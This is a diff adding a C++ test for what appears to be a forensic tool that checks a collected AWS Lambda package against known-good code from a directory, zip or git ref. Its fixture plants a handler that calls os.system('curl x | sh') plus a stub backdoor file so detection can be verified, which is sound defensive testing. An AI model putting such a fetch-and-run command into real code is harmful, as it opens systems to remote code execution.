@@ -126,3 +126,54 @@ TEST(PackageYara, MatchesBecomeFindingsInACase) {
 
 }  // namespace
 }  // namespace lir
+
+namespace lir {
+namespace {
+
+// Known-good code from a directory, a zip and git: the handler's change is critical, the
+// rest listed, with unified diffs.
+TEST(KnownGood, DirectoryZipAndGitAgreeOnTheDifferences) {
+  test::TempDir dir;
+  test::WriteFile(dir.File("good/app.py"), "def handler(event, context):\n    return {'ok': True}\n");
+  test::WriteFile(dir.File("good/lib/util.py"), "X = 1\n");
+  ASSERT_EQ(test::RunCommand({"python3", "-c",
+                              "import zipfile,sys\n"
+                              "z=zipfile.ZipFile(sys.argv[1],'w')\n"
+                              "z.writestr('app.py',\"import os\\ndef handler(event, context):\\n    os.system('curl x | sh')\\n    return {'ok': True}\\n\")\n"
+                              "z.writestr('lib/util.py','X = 1\\n')\n"
+                              "z.writestr('lib/backdoor.py','import socket\\n')\n"
+                              "z.close()",
+                              dir.File("collected.zip")}).exit_code, 0);
+  ASSERT_EQ(test::RunCommand({"sh", "-c", "cd " + dir.File("good") + " && git init -q && git add -A && "
+                                          "git -c user.email=t@example.com -c user.name=t commit -qm good"}).exit_code, 0);
+  ASSERT_EQ(test::RunCommand({"sh", "-c", "cd " + dir.File("good") + " && git archive --format=zip HEAD > " + dir.File("good.zip")}).exit_code, 0);
+  auto evidence = EvidenceCase::Create(dir.File("case"), "case", "tester", "test");
+  ASSERT_TRUE(evidence);
+  const nlohmann::json function = {{"Configuration", {{"FunctionName", "payments"}, {"FunctionArn", "arn:aws:lambda:us-east-1:1:function:payments"},
+                                                      {"Runtime", "python3.12"}, {"Handler", "app.handler"}}}};
+  ASSERT_TRUE((*evidence)->AddArtifact("artifacts/lambda/payments/function.json", function.dump(), {}));
+  ASSERT_TRUE((*evidence)->AddArtifact("artifacts/lambda/payments/code.zip", test::ReadFile(dir.File("collected.zip")), {}));
+  for (const std::string spec : {dir.File("good"), dir.File("good.zip"), "git:" + dir.File("good") + "@HEAD"}) {
+    SCOPED_TRACE(spec);
+    const auto r = test::RunTool({"analyze", dir.File("case"), "--known-good", spec, "--format", "json"});
+    ASSERT_EQ(r.exit_code, 0) << r.err;
+    const auto report = nlohmann::json::parse(r.out);
+    std::map<std::string, nlohmann::json> by_rule;
+    for (const auto& f : report["findings"]) by_rule[f["rule_id"].get<std::string>()] = f;
+    ASSERT_TRUE(by_rule.count("lambda_package_handler_changed"));
+    EXPECT_EQ(by_rule["lambda_package_handler_changed"]["severity"], "critical");
+    EXPECT_EQ(by_rule["lambda_package_handler_changed"]["title"], "Handler file app.py modified against known-good code");
+    EXPECT_NE(by_rule["lambda_package_handler_changed"]["description"].get<std::string>().find("+    os.system('curl x | sh')"),
+              std::string::npos);
+    ASSERT_TRUE(by_rule.count("lambda_package_differs_from_known_good"));
+    EXPECT_EQ(by_rule["lambda_package_differs_from_known_good"]["title"], "1 file(s) differ from known-good code");
+    EXPECT_NE(by_rule["lambda_package_differs_from_known_good"]["description"].get<std::string>().find("added lib/backdoor.py"),
+              std::string::npos);
+  }
+  const auto bad = test::RunTool({"analyze", dir.File("case"), "--known-good", dir.File("nowhere")});
+  EXPECT_EQ(bad.exit_code, 2);
+  EXPECT_NE(bad.err.find("no such directory, zip or git:REPO@REF"), std::string::npos);
+}
+
+}  // namespace
+}  // namespace lir
